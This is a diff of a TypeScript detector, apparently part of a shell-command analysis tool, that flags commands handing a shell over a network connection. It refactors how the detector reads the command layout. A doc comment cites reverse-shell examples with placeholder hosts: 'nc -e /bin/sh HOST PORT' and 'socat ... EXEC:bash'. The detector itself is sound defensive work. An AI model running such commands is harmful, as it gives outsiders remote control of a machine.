@@ -1,5 +1,5 @@
-import { listed, patternsOf, type Role, roleOf } from "../../query/role.js";
-import { layoutOf, optionNames } from "../described.js";
+import { patternsOf, type Role, roleOf } from "../../query/role.js";
+import { layoutOf, lineOf } from "../layout.js";
 import { optionWords, type Argument } from "./argument.js";
 import type { Runner } from "./runner.js";
 
@@ -8,10 +8,11 @@ const remoteShell = "bash/remote-shell";
 /** `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:bash`: reports a shell that is handed to the other side of a connection. */
 export function handShell(name: string, role: Role, args: readonly Argument[], runner: Runner): boolean {
   const words = optionWords(args);
-  const line = layoutOf(role, words, 1);
-  const entries = listed(role, "hands");
+  const layout = layoutOf(role);
+  const line = lineOf(layout, words, 1);
+  const entries = layout.words("hands");
   if (line === null || entries.length === 0) return false;
-  const options = optionNames(role, "hands");
+  const options = layout.options("hands");
   const given = line.options.flatMap((option) =>
     options.has(option.name) && option.valueAt >= 0 ? [{ at: option.valueAt, program: option.value ?? words[option.valueAt] ?? null }] : [],
   );
